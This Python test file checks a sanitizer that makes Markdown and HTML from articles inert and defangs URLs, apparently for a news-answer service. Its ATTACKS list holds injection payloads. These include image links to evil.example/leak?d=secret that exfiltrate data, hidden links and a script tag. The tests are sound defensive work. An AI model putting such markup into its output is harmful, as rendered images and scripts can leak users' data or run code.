"""Answer text through a real CommonMark renderer: article markup shows as text, never as a
link, image or HTML; text without such markup is returned unchanged."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from api.markdown_text import defang_urls, inert_markdown

RENDER = MarkdownIt("commonmark")

ATTACKS = [
    "![x](http://evil.example/leak?d=secret)",
    "![x][r]\n\n[r]: http://evil.example/leak",
    "[click](http://evil.example)",
    "[click] [r]\n\n   [r]: <http://evil.example>",
    "[click][]\n\n[click]: http://evil.example",
    "[1][2]\n\n> [2]: http://evil.example",
    "[1]\n\n- [1]: http://evil.example",
    "[a\\]b]\n\n[a\\]b]: http://evil.example",
    "<http://evil.example|click>",
    "<https://evil.example>",
    "<mailto:someone@evil.example>",
    '<img src="http://evil.example/x.png">',
    '<a href="http://evil.example">here</a>',
    "<!-- hidden --><script>alert(1)</script>",
    "[a [nested]](http://evil.example)",
    "![x](<http://evil.example/a b>)",
    "[x](\nhttp://evil.example)",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_markup_from_articles_renders_inert(text: str) -> None:
    raw = RENDER.render(text)
    assert "<a " in raw or "<img" in raw or "<script" in raw or "<!--" in raw  # the attack works

    html = RENDER.render(f"The bank said {inert_markdown(text)} on Tuesday [1].")
    for tag in ("<a ", "<img", "<script", "<!--"):
        assert tag not in html
    assert "://" not in html


@pytest.mark.parametrize(
    "text",
    [
        "Xi announced an additional $100 billion in loans [1].",
        "Xi and Putin met on 3 July 2024 [1][2], said the *ministry*.",
        "Growth was 5% (officials said) and 3 < 4 [2].",
    ],
)
def test_plain_answers_are_unchanged(text: str) -> None:
    assert inert_markdown(text) == text


def test_citation_markers_still_render_as_text() -> None:
    assert RENDER.render(inert_markdown("Lending rose [1](http://x.io).")) == (
        "<p>Lending rose [1](http[:]//x.io).</p>\n"
    )


def test_defanged_urls_stay_readable() -> None:
    assert defang_urls("see https://x.io, www.x.io or mailto:a@x.io") == (
        "see https[:]//x.io, www[.]x.io or mailto[:]a@x.io"
    )
